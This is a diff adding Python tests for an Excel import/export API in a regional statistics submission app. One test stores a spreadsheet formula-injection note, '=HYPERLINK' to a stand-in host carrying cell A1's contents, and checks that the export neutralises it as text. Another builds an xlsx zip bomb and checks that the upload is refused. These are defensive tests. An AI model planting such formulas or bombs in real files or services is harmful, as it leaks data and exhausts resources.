@@ -6,6 +6,7 @@ from __future__ import annotations
 import io
 import re
 from collections.abc import Callable
+from pathlib import Path
 
 from fastapi.testclient import TestClient
 from openpyxl import load_workbook
@@ -155,3 +156,87 @@ def test_import_refuses_other_regions_and_non_office(site: Site, client_for: Cli
         "/api/excel/preview", files={"file": ("a.xlsx", b"%PDF-1.4 x", XLSX)}, headers={"X-CSRF-Token": token}
     )
     assert r.status_code == 415 and "只接受 Excel 表格" in r.json()["detail"]
+
+
+def test_template_writes_formula_like_notes_as_text(site: Site, client_for: Clients) -> None:
+    from liangshan.store.submissions import submit_value
+
+    with session_scope(site.url) as s:
+        submit_value(s, region="411224", item="eco_env_investment", year=2023, value=45000.0, user="u07",
+                     note='=HYPERLINK("http://x.example/?"&A1,"点击")')  # fmt: skip
+    c, _ = client_for("office")
+    ws = load_workbook(io.BytesIO(template(c, site.url)))["填报"]
+    row = next(r for r in ws.iter_rows(min_row=2) if (r[1].value, r[3].value) == ("eco_env_investment", 2023))
+    assert row[6].value.startswith("=HYPERLINK") and row[6].data_type == "s" and row[6].quotePrefix
+    assert row[4].value == 45000 and row[4].data_type == "n"
+
+
+def _with_cached_formula(data: bytes, cell: str, formula: str, cached: str) -> bytes:
+    """The workbook with ``cell`` holding ``formula`` and Excel's cached result ``cached`` (openpyxl
+    itself cannot write a cached value)."""
+    import zipfile
+
+    wb = load_workbook(io.BytesIO(data))
+    wb["填报"][cell].value = f"={formula}"
+    tmp = io.BytesIO()
+    wb.save(tmp)
+    src = zipfile.ZipFile(tmp)
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
+        for info in src.infolist():
+            raw = src.read(info.filename)
+            if info.filename == "xl/worksheets/sheet1.xml":
+                old = f"<f>{formula}</f><v></v>".encode()
+                assert old in raw
+                raw = raw.replace(old, f"<f>{formula}</f><v>{cached}</v>".encode())
+            z.writestr(info, raw)
+    return out.getvalue()
+
+
+def test_preview_keeps_cached_formula_values(site: Site, client_for: Clients) -> None:
+    c, token = client_for("office")
+    data = template(c, site.url)
+    wb = load_workbook(io.BytesIO(data))
+    line = next(i for i, r in enumerate(wb["填报"].iter_rows(min_row=2), start=2)
+                if (r[1].value, r[3].value) == ("eco_env_investment", 2024))  # fmt: skip
+    data = _with_cached_formula(data, f"E{line}", "40000+8000", "48000")
+    files = {"file": ("a.xlsx", data, XLSX)}
+    api = c.post("/api/excel/preview", files=files, headers={"X-CSRF-Token": token})
+    plan = api.json()
+    assert plan["ok"], plan["errors"]
+    assert [(r["item"], r["year"], r["value"]) for r in plan["rows"] if r["change"] != "unchanged"] == [
+        ("eco_env_investment", 2024, 48000.0)
+    ]
+
+
+def test_preview_refuses_xlsx_bomb_naming_the_file(site: Site, client_for: Clients, tmp_path: Path) -> None:
+    import time
+    import zipfile
+
+    c, token = client_for("office")
+    src = zipfile.ZipFile(io.BytesIO(template(c, site.url)))
+    head, tail = src.read("xl/worksheets/sheet1.xml").split(b"</sheetData>")
+    chunk = (b'<row><c t="inlineStr"><is><t>' + b"x" * 200 + b"</t></is></c></row>") * 4000
+    bomb = tmp_path / "bomb.xlsx"
+    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as out:
+        for info in src.infolist():
+            if info.filename != "xl/worksheets/sheet1.xml":
+                out.writestr(info.filename, src.read(info.filename))
+                continue
+            with out.open(info.filename, "w", force_zip64=True) as fh:
+                fh.write(head)
+                for _ in range(200 * 1024 * 1024 // len(chunk)):
+                    fh.write(chunk)
+                fh.write(b"</sheetData>" + tail)
+    data = bomb.read_bytes()
+    assert len(data) < 1024 * 1024
+    before = n_subs(site.url)
+    t0 = time.monotonic()
+    api = c.post("/api/excel/preview", files={"file": ("财政局填报.xlsx", data, XLSX)},
+                 headers={"X-CSRF-Token": token})  # fmt: skip
+    assert time.monotonic() - t0 < 5.0
+    body = api.json()
+    assert not body["ok"] and body["token"] is None
+    message = body["errors"][0]["message"]
+    assert "财政局填报.xlsx" in message and "压缩炸弹" in message
+    assert n_subs(site.url) == before
